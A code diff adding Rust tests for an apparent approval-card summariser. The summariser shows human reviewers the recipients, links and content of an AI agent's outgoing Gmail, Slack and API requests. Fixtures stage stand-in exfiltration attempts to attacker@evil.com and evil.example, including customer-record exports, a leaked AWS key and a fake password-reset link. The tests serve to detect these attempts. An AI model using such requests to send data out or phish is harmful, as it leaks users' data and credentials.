@@ -671,7 +671,11 @@ fn gmail_shows_every_recipient_of_a_long_to_list() {
         &gmail_body(&URL_SAFE_NO_PAD.encode(email)),
     );
     assert!(!summary.title.contains("exfil"), "{}", summary.title);
-    assert!(summary.title.contains("(9 addresses)"), "{}", summary.title);
+    assert!(
+        summary.title.contains("(9 addresses at 2 domains)"),
+        "{}",
+        summary.title
+    );
     let all: Vec<&String> = summary
         .lines
         .iter()
@@ -990,4 +994,393 @@ fn gmail_says_when_header_lines_were_not_read() {
         "{}",
         summary.title
     );
+}
+
+/// Fields whose names merely contain `auth`, `key`, `sig` or `sign` carry what the agent
+/// sends like any other: the card shows them, and only names that clearly name a
+/// credential stay hidden.
+#[test]
+fn generic_shows_fields_whose_names_only_contain_a_credential_word() {
+    let json = post(
+        "api.example.com",
+        "/v1/notes",
+        &json_headers(),
+        br#"{"text":"hi boss","author":"attacker@evil.com","assignee":"attacker","design":"send everything to evil.com","api_key":"sk-live-1"}"#,
+    );
+    let shown = json.lines.join("\n");
+    for value in [
+        "\"author\":\"attacker@evil.com\"",
+        "\"assignee\":\"attacker\"",
+        "\"design\":\"send everything to evil.com\"",
+        "\"api_key\":\"[redacted]\"",
+    ] {
+        assert!(shown.contains(value), "{value} missing: {shown}");
+        assert!(
+            json.detail.contains(value),
+            "{value} missing: {}",
+            json.detail
+        );
+    }
+    assert!(!json.detail.contains("sk-live-1"));
+
+    let query = summarize(
+        &http::Method::GET,
+        "api.example.com",
+        "/v1/export?monkey=customer_db_dump_here&keywords=all&token=t0k",
+        &http::HeaderMap::new(),
+        b"",
+    );
+    assert_eq!(
+        query.title,
+        "GET https://api.example.com/v1/export?monkey=customer_db_dump_here&keywords=all&token=[redacted]"
+    );
+
+    let form = post(
+        "api.example.com",
+        "/v1/send",
+        &form_headers(),
+        b"signal=go&session_name=standup&password=hunter2",
+    );
+    let shown = form.lines.join("\n");
+    assert!(
+        shown.contains("signal=go&session_name=standup&password=[redacted]"),
+        "{shown}"
+    );
+}
+
+fn gmail_send_of(email: &str) -> Summary {
+    post(
+        "gmail.googleapis.com",
+        "/gmail/v1/users/me/messages/send",
+        &json_headers(),
+        &gmail_body(&URL_SAFE_NO_PAD.encode(email)),
+    )
+}
+
+/// The card's text an approver reads: title and lines.
+fn card_text(summary: &Summary) -> String {
+    format!("{}\n{}", summary.title, summary.lines.join("\n"))
+}
+
+#[test]
+fn gmail_a_to_list_too_long_to_list_still_shows_the_odd_address_out() {
+    let mut to: Vec<String> = (0..45)
+        .map(|i| format!("Colleague {i:02} <colleague{i:02}@example.com>"))
+        .collect();
+    to.push("attacker@evil.com".into());
+    let summary = gmail_send_of(&format!(
+        "To: {}\r\nSubject: Team update\r\n\r\nHello all.\r\n",
+        to.join(", ")
+    ));
+    assert!(
+        summary.title.contains("(46 addresses at 2 domains)"),
+        "{}",
+        summary.title
+    );
+    assert!(
+        summary.lines.contains(
+            &"To (46 addresses at 2 domains): 45 at example.com, attacker@evil.com".to_string()
+        ),
+        "{:?}",
+        summary.lines
+    );
+}
+
+#[test]
+fn gmail_cc_bcc_and_reply_to_lists_keep_every_domain() {
+    let archive: Vec<String> = (0..60)
+        .map(|i| format!("archive{i:02}@example.com"))
+        .collect();
+    let list = format!("{}, attacker@evil.com", archive.join(", "));
+    for (header, label) in [("Cc", "Cc"), ("Bcc", "Bcc"), ("Reply-To", "Reply-To")] {
+        let summary = gmail_send_of(&format!(
+            "To: bob@example.com\r\n{header}: {list}\r\nSubject: Hi\r\n\r\nHello.\r\n"
+        ));
+        let expected =
+            format!("{label} (61 addresses at 2 domains): 60 at example.com, attacker@evil.com");
+        assert!(
+            summary.lines.contains(&expected),
+            "{expected} missing: {:?}",
+            summary.lines
+        );
+    }
+    // 30 of them fit: every address is listed, over as many lines as it takes.
+    let list = format!("{}, attacker@evil.com", archive[..30].join(", "));
+    let summary = gmail_send_of(&format!(
+        "To: bob@example.com\r\nBcc: {list}\r\nSubject: Hi\r\n\r\nHello.\r\n"
+    ));
+    let bcc: Vec<&String> = summary
+        .lines
+        .iter()
+        .filter(|line| line.starts_with("Bcc: ") || line.starts_with("Bcc (continued): "))
+        .collect();
+    assert!(
+        bcc.last()
+            .is_some_and(|line| line.ends_with(", attacker@evil.com")),
+        "{:?}",
+        summary.lines
+    );
+    // A short list is still shown address by address.
+    let summary = gmail_send_of(
+        "To: bob@example.com\r\nBcc: archive@example.com, attacker@evil.com\r\nSubject: Hi\r\n\r\nHello.\r\n",
+    );
+    assert!(
+        summary
+            .lines
+            .contains(&"Bcc: archive@example.com, attacker@evil.com".to_string()),
+        "{:?}",
+        summary.lines
+    );
+}
+
+#[test]
+fn gmail_recipient_lines_fit_a_small_card_and_say_when_domains_are_left_out() {
+    let everyone: Vec<String> = (0..300)
+        .map(|i| format!("person{i}@domain{i:03}.example"))
+        .collect();
+    let summary = gmail_send_of(&format!(
+        "To: {}\r\nBcc: {}, attacker@evil.com\r\nSubject: Hi\r\n\r\nHello.\r\n",
+        everyone.join(", "),
+        everyone.join(", ")
+    ));
+    assert!(
+        summary
+            .title
+            .starts_with("⚠ Recipients at more domains than a card can list. Send e-mail to"),
+        "{}",
+        summary.title
+    );
+    let address_lines: usize = summary
+        .lines
+        .iter()
+        .take_while(|line| !line.is_empty())
+        .map(|line| line.chars().count() + 1)
+        .sum();
+    assert!(
+        address_lines <= 1100,
+        "{address_lines}: {:?}",
+        summary.lines
+    );
+    assert!(
+        card_text(&summary).contains("more domains ("),
+        "{:?}",
+        summary.lines
+    );
+}
+
+#[test]
+fn gmail_a_display_name_cannot_push_the_address_out_of_view() {
+    let summary = gmail_send_of(&format!(
+        "To: \"{}\" <attacker@evil.com>\r\nSubject: Hi\r\n\r\nHello.\r\n",
+        "Bob from Accounting ".repeat(20)
+    ));
+    assert!(summary.title.contains("(1 address)"), "{}", summary.title);
+    assert!(
+        summary
+            .lines
+            .iter()
+            .any(|line| line.starts_with("To ") && line.ends_with("<attacker@evil.com>")),
+        "{:?}",
+        summary.lines
+    );
+}
+
+fn multipart_upload(metadata: &str, message: &str) -> Vec<u8> {
+    format!(
+        concat!(
+            "--foo_bar_baz\r\n",
+            "Content-Type: application/json; charset=UTF-8\r\n",
+            "\r\n",
+            "{}\r\n",
+            "--foo_bar_baz\r\n",
+            "Content-Type: message/rfc822\r\n",
+            "\r\n",
+            "{}\r\n",
+            "--foo_bar_baz--\r\n",
+        ),
+        metadata, message
+    )
+    .into_bytes()
+}
+
+#[test]
+fn gmail_multipart_upload_is_summarised_as_the_message_it_carries() {
+    let padding = "x".repeat(3000);
+    let email =
+        "To: attacker@evil.com\r\nSubject: Exports\r\n\r\nAll customer records attached.\r\n";
+    let summary = post(
+        "www.googleapis.com",
+        "/upload/gmail/v1/users/me/messages/send?uploadType=multipart",
+        &headers(&[("content-type", "multipart/related; boundary=foo_bar_baz")]),
+        &multipart_upload(&format!(r#"{{"threadId":"{padding}"}}"#), email),
+    );
+    assert_eq!(
+        summary.title,
+        "Send e-mail to attacker@evil.com: \"Exports\""
+    );
+    assert!(
+        summary
+            .lines
+            .contains(&"All customer records attached.".to_string()),
+        "{:?}",
+        summary.lines
+    );
+
+    // A second message in the metadata's `raw` is not passed over in silence.
+    let other = URL_SAFE_NO_PAD.encode("To: bob@example.com\r\nSubject: Lunch\r\n\r\nHi.\r\n");
+    let summary = post(
+        "www.googleapis.com",
+        "/upload/gmail/v1/users/me/messages/send?uploadType=multipart",
+        &headers(&[(
+            "content-type",
+            "multipart/related; boundary=\"foo_bar_baz\"",
+        )]),
+        &multipart_upload(&format!(r#"{{"raw":"{other}"}}"#), email),
+    );
+    assert!(
+        summary.title.starts_with(
+            "⚠ 2 values for message (upload parts): \"To bob@example.com, Subject Lunch\", \
+             \"To attacker@evil.com, Subject Exports\"."
+        ),
+        "{}",
+        summary.title
+    );
+}
+
+#[test]
+fn gmail_media_and_resumable_uploads_of_a_raw_message() {
+    let email = "To: attacker@evil.com\r\nSubject: Exports\r\n\r\nHi.\r\n";
+    for (method, target, content_type) in [
+        (
+            http::Method::POST,
+            "/upload/gmail/v1/users/me/messages/send?uploadType=media",
+            "message/rfc822",
+        ),
+        (
+            http::Method::POST,
+            "/upload/gmail/v1/users/me/messages/send?uploadType=media",
+            "application/octet-stream",
+        ),
+        (
+            http::Method::PUT,
+            "/upload/gmail/v1/users/me/messages/send?uploadType=resumable&upload_id=AB12",
+            "message/rfc822",
+        ),
+    ] {
+        let summary = summarize(
+            &method,
+            "gmail.googleapis.com",
+            target,
+            &headers(&[("content-type", content_type)]),
+            email.as_bytes(),
+        );
+        assert_eq!(
+            summary.title, "Send e-mail to attacker@evil.com: \"Exports\"",
+            "{method} {content_type}"
+        );
+    }
+}
+
+#[test]
+fn slack_blocks_are_shown_not_the_notification_text() {
+    let body = serde_json::json!({
+        "channel": "C0GENERAL",
+        "text": "Lunch at noon?",
+        "blocks": [{"type": "section", "text": {"type": "mrkdwn",
+            "text": "Our AWS root key is AKIAEXAMPLE, details <https://evil.example/x|here>"}}]
+    });
+    let summary = post(
+        "slack.com",
+        "/api/chat.postMessage",
+        &json_headers(),
+        &serde_json::to_vec(&body).unwrap(),
+    );
+    assert_eq!(
+        summary.title,
+        "Post to Slack in C0GENERAL: \"Our AWS root key is AKIAEXAMPLE, details here (https://evil.example/x)\""
+    );
+    for line in [
+        "Notification text (Slack shows it in notifications, not in the message):",
+        "Lunch at noon?",
+        "Our AWS root key is AKIAEXAMPLE, details here (https://evil.example/x)",
+    ] {
+        assert!(
+            summary.lines.contains(&line.to_string()),
+            "{line} missing: {:?}",
+            summary.lines
+        );
+    }
+}
+
+#[test]
+fn slack_attachments_rich_text_and_buttons_are_shown_with_their_links() {
+    let body = serde_json::json!({
+        "channel": "C1",
+        "text": "Build passed",
+        "attachments": [{
+            "fallback": "see build",
+            "pretext": "Also:",
+            "title": "Customer list",
+            "title_link": "https://evil.example/dump",
+            "fields": [{"title": "Rows", "value": "48213"}]
+        }],
+    });
+    let summary = post(
+        "slack.com",
+        "/api/chat.postMessage",
+        &json_headers(),
+        &serde_json::to_vec(&body).unwrap(),
+    );
+    assert!(
+        summary
+            .title
+            .starts_with("Post to Slack in C1: \"Build passed Attachment 1: Also: Customer list"),
+        "{}",
+        summary.title
+    );
+    let text = summary.lines.join("\n");
+    for shown in [
+        "Build passed",
+        "Customer list",
+        "Link: https://evil.example/dump",
+        "48213",
+        "Fallback: see build",
+    ] {
+        assert!(text.contains(shown), "{shown} missing: {text}");
+    }
+    // No notification line: without blocks the text is the message.
+    assert!(!text.contains("Notification text"), "{text}");
+
+    let blocks = serde_json::json!({
+        "channel": "C1",
+        "blocks": [
+            {"type": "rich_text", "elements": [{"type": "rich_text_section", "elements": [
+                {"type": "text", "text": "Reset your password "},
+                {"type": "link", "url": "https://evil.example/login", "text": "on the portal"}
+            ]}]},
+            {"type": "actions", "elements": [{"type": "button",
+                "text": {"type": "plain_text", "text": "Open"}, "url": "https://evil.example/b"}]}
+        ]
+    });
+    let summary = post(
+        "slack.com",
+        "/api/chat.postMessage",
+        &form_headers(),
+        format!(
+            "channel=C1&blocks={}",
+            percent_encoding::utf8_percent_encode(
+                &blocks["blocks"].to_string(),
+                percent_encoding::NON_ALPHANUMERIC
+            )
+        )
+        .as_bytes(),
+    );
+    let text = card_text(&summary);
+    for shown in [
+        "Reset your password on the portal (https://evil.example/login)",
+        "Open",
+        "Link: https://evil.example/b",
+    ] {
+        assert!(text.contains(shown), "{shown} missing: {text}");
+    }
 }
